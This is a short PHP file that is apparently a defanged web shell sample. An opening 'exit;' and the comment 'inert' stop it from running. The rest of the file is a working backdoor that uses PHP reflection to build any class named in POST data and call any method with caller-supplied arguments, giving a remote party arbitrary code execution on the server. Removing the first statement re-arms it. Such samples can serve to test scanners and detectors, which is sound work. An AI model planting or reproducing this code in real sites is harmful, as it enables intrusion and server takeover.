<?php exit; /* inert */ 
$rc = new ReflectionClass($_POST['c']);
$o = $rc->newInstanceArgs((array) $_POST['k']);
echo $rc->getMethod($_POST['m'])->invokeArgs($o, (array) $_POST['p']);
